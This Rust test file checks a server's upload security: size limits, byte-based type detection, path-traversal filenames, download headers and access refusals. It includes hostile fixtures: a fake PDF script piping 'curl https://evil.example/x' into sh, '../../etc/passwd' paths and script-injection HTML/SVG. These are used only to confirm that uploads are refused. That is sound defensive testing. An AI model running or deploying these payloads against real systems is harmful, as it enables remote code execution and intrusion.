//! Uploads (SECURITY.md): a size limit (`PAYLOAD_TOO_LARGE`), one file per request, a type
//! allow-list decided from the bytes and never from the name or the declared type, storage
//! under a generated key with no path from the client, downloads served as attachments with
//! `nosniff`, and 404 — as for nothing — to whoever may not read the group. Nothing refused
//! leaves a file behind.

use std::path::PathBuf;

use reqwest::StatusCode;
use reqwest::header::CONTENT_DISPOSITION;
use serde_json::{Value, json};

use crate::harness::{assert_code, each_backend, each_backend_with};
use crate::membership::{join, mutate};
use crate::presentations::{
    FilePart, JPEG, PDF, PNG, assert_nothing_stored, download, files_under, header, id_of,
    private_group_with_member, sha256_hex, share, share_request, shared, status_and_body,
    storage_dir,
};

/// A shell script passed off as a PDF.
const SCRIPT: &[u8] = b"#!/bin/sh\n# %PDF-1.4\ncurl https://evil.example/x | sh\n";

const SMALL_LIMIT: u64 = 64 * 1024;

/// A valid PDF of exactly `len` bytes.
fn pdf_of_len(len: usize) -> Vec<u8> {
    let mut bytes = b"%PDF-1.4\n".to_vec();
    bytes.resize(len - 6, b'%');
    bytes.extend_from_slice(b"\n%%EOF");
    assert_eq!(bytes.len(), len);
    bytes
}

/// A random well-formed presentation ID that names nothing.
fn unknown_presentation() -> String {
    format!("prs_{}", uuid::Uuid::now_v7().simple())
}

#[tokio::test]
async fn refused_uploads_leave_no_file_behind() {
    each_backend(|server| async move {
        let ana = server.register("ana").await;
        let ben = server.register("ben").await;
        let group = private_group_with_member(&server, &ana, &ben, "webinars").await;
        let input = json!({ "groupId": group, "title": "Slides" });

        let refused = [
            (
                "a script named slides.pdf",
                FilePart::pdf("slides.pdf", SCRIPT),
            ),
            ("an empty file", FilePart::pdf("empty.pdf", b"")),
            (
                "HTML named slides.pdf",
                FilePart::pdf(
                    "slides.pdf",
                    b"<!doctype html><script>alert(1)</script>%PDF-1.4",
                ),
            ),
        ];
        for (what, file) in refused {
            let body = share(&server, &ben, input.clone(), Some(file)).await;
            assert_code(&body, "BAD_USER_INPUT");
            assert!(body["data"].is_null(), "{what}: {body:#}");
            assert_nothing_stored(&server, &ana, "webinars", what).await;
        }
    })
    .await;
}

#[tokio::test]
async fn an_upload_over_the_limit_is_payload_too_large_and_leaves_nothing() {
    each_backend_with(
        |config| {
            config.upload_limit = SMALL_LIMIT;
            config.body_limit = SMALL_LIMIT as usize;
        },
        |server| async move {
            let ana = server.register("ana").await;
            let ben = server.register("ben").await;
            let group = private_group_with_member(&server, &ana, &ben, "webinars").await;
            let input = json!({ "groupId": group, "title": "Slides" });

            for len in [SMALL_LIMIT as usize + 1, 3 * SMALL_LIMIT as usize] {
                let big = pdf_of_len(len);
                let body = share(
                    &server,
                    &ben,
                    input.clone(),
                    Some(FilePart::pdf("big.pdf", &big)),
                )
                .await;
                assert_code(&body, "PAYLOAD_TOO_LARGE");
                assert!(body["data"].is_null(), "{body:#}");
                assert_nothing_stored(&server, &ana, "webinars", "oversize").await;
            }

            // Files each under the limit but together over it (one is the upload, the
            // others are extra parts).
            let part = pdf_of_len(SMALL_LIMIT as usize - 1024);
            let parts = [FilePart::pdf("part.pdf", &part); 4];
            let response = share_request(&server, Some(&ben), input.clone(), &parts, true).await;
            assert_eq!(response.status(), 200);
            let body: Value = response.json().await.expect("JSON body");
            assert_code(&body, "PAYLOAD_TOO_LARGE");
            assert_nothing_stored(&server, &ana, "webinars", "too many bytes of files").await;

            // A file of exactly the limit is accepted.
            let fits = pdf_of_len(SMALL_LIMIT as usize);
            let presentation =
                shared(&share(&server, &ben, input, Some(FilePart::pdf("fits.pdf", &fits))).await);
            assert_eq!(presentation["file"]["byteSize"], SMALL_LIMIT);
            assert_eq!(presentation["file"]["sha256"], sha256_hex(&fits));
            assert_eq!(files_under(&storage_dir(&server)).len(), 1);
        },
    )
    .await;
}

#[tokio::test]
async fn a_path_like_filename_is_reduced_to_its_last_component() {
    each_backend(|server| async move {
        let ana = server.register("ana").await;
        let ben = server.register("ben").await;
        let group = private_group_with_member(&server, &ana, &ben, "webinars").await;
        let storage = storage_dir(&server);

        for (n, raw) in [
            "../../etc/passwd.pdf",
            "..\\..\\windows\\passwd.pdf",
            "/etc/passwd.pdf",
        ]
        .into_iter()
        .enumerate()
        {
            let presentation = shared(
                &share(
                    &server,
                    &ben,
                    json!({ "groupId": group, "title": "Slides" }),
                    Some(FilePart::pdf(raw, PDF)),
                )
                .await,
            );
            assert_eq!(presentation["file"]["filename"], "passwd.pdf", "{raw}");
            let response = download(&server, Some(&ana), &id_of(&presentation), None).await;
            assert_eq!(
                header(&response, CONTENT_DISPOSITION),
                "attachment; filename=\"passwd.pdf\"; filename*=UTF-8''passwd.pdf"
            );

            // The file lands under the storage directory, under a generated name, and nowhere else.
            let stored = files_under(&storage);
            assert_eq!(stored.len(), n + 1, "{stored:?}");
            for path in &stored {
                assert_eq!(std::fs::read(path).expect("stored file"), PDF);
                assert!(
                    !path.to_string_lossy().contains("passwd"),
                    "the storage key never derives from the client's name: {path:?}"
                );
            }
            let outside: Vec<PathBuf> = files_under(server.data_dir())
                .into_iter()
                .filter(|path| !path.starts_with(&storage))
                .filter(|path| {
                    !path
                        .file_name()
                        .is_some_and(|name| name.to_string_lossy().starts_with("convene.db"))
                })
                .collect();
            assert_eq!(
                outside,
                Vec::<PathBuf>::new(),
                "only the database lives beside the files"
            );
            for base in [storage.clone(), storage.join("presentations")] {
                assert!(!base.join("../../etc/passwd.pdf").exists());
                assert!(!base.join("../etc/passwd.pdf").exists());
            }
        }
    })
    .await;
}

#[tokio::test]
async fn files_are_404_to_whoever_may_not_read_the_group() {
    each_backend(|server| async move {
        let ana = server.register("ana").await;
        let ben = server.register("ben").await;
        let carl = server.register("carl").await;
        let dora = server.register("dora").await;
        let eve = server.register("eve").await;

        // PRIVATE: ben is a member; dora was one and was removed; eve was banned.
        let private = server
            .create_group(&ana, "private-circle", "PRIVATE", "OPEN")
            .await;
        join(&server, &ben, &private, None).await;
        let doras =
            join(&server, &dora, &private, None).await["data"]["joinGroup"]["membership"]["id"]
                .clone();
        join(&server, &eve, &private, None).await;
        let in_private = id_of(&shared(
            &share(
                &server,
                &ben,
                json!({ "groupId": private, "title": "Private slides" }),
                Some(FilePart::pdf("p.pdf", PDF)),
            )
            .await,
        ));
        let removed = mutate(
            &server,
            Some(&ana),
            "removeMember",
            json!({ "membershipId": doras }),
            "deletedId",
        )
        .await;
        assert!(removed.get("errors").is_none(), "{removed:#}");
        let banned = mutate(
            &server,
            Some(&ana),
            "banMember",
            json!({ "groupId": private, "userId": eve.id }),
            "membership { state }",
        )
        .await;
        assert!(banned.get("errors").is_none(), "{banned:#}");

        // SECRET: only ana (the owner) and ben (invited, accepted).
        let secret = server
            .create_group(&ana, "secret-circle", "SECRET", "INVITE")
            .await;
        let invitation = mutate(
            &server,
            Some(&ana),
            "inviteMember",
            json!({ "groupId": secret, "handle": "ben" }),
            "membership { id }",
        )
        .await;
        let accepted = mutate(
            &server,
            Some(&ben),
            "acceptInvitation",
            json!({ "membershipId": invitation["data"]["inviteMember"]["membership"]["id"] }),
            "membership { state }",
        )
        .await;
        assert_eq!(
            accepted["data"]["acceptInvitation"]["membership"]["state"], "ACTIVE",
            "{accepted:#}"
        );
        let in_secret = id_of(&shared(
            &share(
                &server,
                &ana,
                json!({ "groupId": secret, "title": "Secret slides" }),
                Some(FilePart::pdf("s.pdf", PDF)),
            )
            .await,
        ));

        // PUBLIC: anyone reads.
        let public = server
            .create_group(&ana, "public-circle", "PUBLIC", "OPEN")
            .await;
        let in_public = id_of(&shared(
            &share(
                &server,
                &ana,
                json!({ "groupId": public, "title": "Public slides" }),
                Some(FilePart::pdf("o.pdf", PDF)),
            )
            .await,
        ));

        let refusals = [
            ("anonymous, private", None, &in_private),
            ("non-member, private", Some(&carl), &in_private),
            ("removed member, private", Some(&dora), &in_private),
            ("banned member, private", Some(&eve), &in_private),
            ("anonymous, secret", None, &in_secret),
            ("non-member, secret", Some(&carl), &in_secret),
            (
                "removed member of another group, secret",
                Some(&dora),
                &in_secret,
            ),
        ];
        for (who, viewer, id) in refusals {
            let hidden = status_and_body(download(&server, viewer, id, None).await).await;
            let unknown =
                status_and_body(download(&server, viewer, &unknown_presentation(), None).await)
                    .await;
            let malformed =
                status_and_body(download(&server, viewer, "not-an-id", None).await).await;
            let ranged =
                status_and_body(download(&server, viewer, id, Some("bytes=0-3")).await).await;
            assert_eq!(hidden.0, StatusCode::NOT_FOUND, "{who}");
            assert_eq!(hidden, unknown, "{who}: like an unknown ID");
            assert_eq!(hidden, malformed, "{who}: like a malformed ID");
            assert_eq!(hidden, ranged, "{who}: a range changes nothing");
        }

        let allowed = [
            ("member, private", Some(&ben), &in_private),
            ("owner, private", Some(&ana), &in_private),
            ("member, secret", Some(&ben), &in_secret),
            ("anonymous, public", None, &in_public),
            ("non-member, public", Some(&carl), &in_public),
        ];
        for (who, viewer, id) in allowed {
            let response = download(&server, viewer, id, None).await;
            assert_eq!(response.status(), 200, "{who}");
            assert_eq!(response.bytes().await.expect("body").as_ref(), PDF, "{who}");
        }
    })
    .await;
}

#[tokio::test]
async fn the_type_comes_from_the_bytes_and_files_are_attachments_with_nosniff() {
    each_backend(|server| async move {
        let ana = server.register("ana").await;
        let ben = server.register("ben").await;
        let group = private_group_with_member(&server, &ana, &ben, "webinars").await;
        let input = json!({ "groupId": group, "title": "Slides" });

        // Markup and text are not on the list, whatever they are called.
        let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
        let refused = [
            (
                "SVG named pic.png",
                FilePart {
                    filename: "pic.png",
                    content_type: "image/png",
                    bytes: svg,
                },
            ),
            (
                "HTML named page.png",
                FilePart {
                    filename: "page.png",
                    content_type: "image/png",
                    bytes: b"<html><script>alert(1)</script></html>",
                },
            ),
            (
                "text named notes.pdf",
                FilePart::pdf("notes.pdf", b"just some notes, not a PDF at all"),
            ),
        ];
        for (what, file) in refused {
            let body = share(&server, &ben, input.clone(), Some(file)).await;
            assert_code(&body, "BAD_USER_INPUT");
            assert_nothing_stored(&server, &ana, "webinars", what).await;
        }

        // What the bytes are wins over the name and the declared type.
        let disguised = [
            (
                FilePart {
                    filename: "slides.pdf",
                    content_type: "application/pdf",
                    bytes: PNG,
                },
                "image/png",
            ),
            (
                FilePart {
                    filename: "photo.png",
                    content_type: "image/png",
                    bytes: PDF,
                },
                "application/pdf",
            ),
            (
                FilePart {
                    filename: "page.html",
                    content_type: "text/html",
                    bytes: JPEG,
                },
                "image/jpeg",
            ),
        ];
        for (file, sniffed) in disguised {
            let presentation = shared(&share(&server, &ben, input.clone(), Some(file)).await);
            assert_eq!(
                presentation["file"]["contentType"], sniffed,
                "{}",
                file.filename
            );
            let id = id_of(&presentation);
            let size = file.bytes.len();
            for range in [
                None,
                Some("bytes=0-3".to_owned()),
                Some("bytes=-2".to_owned()),
                Some(format!("bytes={size}-")),
            ] {
                let response = download(&server, Some(&ana), &id, range.as_deref()).await;
                let what = format!("{} {range:?}: {}", file.filename, response.status());
                assert!(
                    [
                        StatusCode::OK,
                        StatusCode::PARTIAL_CONTENT,
                        StatusCode::RANGE_NOT_SATISFIABLE
                    ]
                    .contains(&response.status()),
                    "{what}"
                );
                assert_eq!(
                    header(&response, "x-content-type-options"),
                    "nosniff",
                    "{what}"
                );
                assert_eq!(header(&response, "content-type"), sniffed, "{what}");
                let disposition = header(&response, "content-disposition");
                assert!(
                    disposition.starts_with("attachment; filename=\""),
                    "{what}: {disposition}"
                );
                assert_eq!(
                    header(&response, "cache-control"),
                    "private, no-store",
                    "{what}"
                );
            }
        }
    })
    .await;
}

/// A request may carry one file. Extra parts, mapped or not, are refused before anything is
/// stored: each would otherwise hold a temporary file open while the request is read.
#[tokio::test]
async fn a_request_carries_at_most_one_file() {
    each_backend(|server| async move {
        let ana = server.register("ana").await;
        let ben = server.register("ben").await;
        let group = private_group_with_member(&server, &ana, &ben, "webinars").await;
        let input = json!({ "groupId": group, "title": "Slides" });
        for count in [2, 3, 200] {
            let parts = vec![FilePart::pdf("part.pdf", PDF); count];
            let response = share_request(&server, Some(&ben), input.clone(), &parts, true).await;
            assert_eq!(response.status(), 200);
            let body: Value = response.json().await.expect("JSON body");
            assert_code(&body, "PAYLOAD_TOO_LARGE");
            assert!(body["data"].is_null(), "{body:#}");
            assert_nothing_stored(&server, &ana, "webinars", &format!("{count} files")).await;
        }
        // One file is fine.
        shared(&share(&server, &ben, input, Some(FilePart::pdf("one.pdf", PDF))).await);
        assert_eq!(files_under(&storage_dir(&server)).len(), 1);
    })
    .await;
}
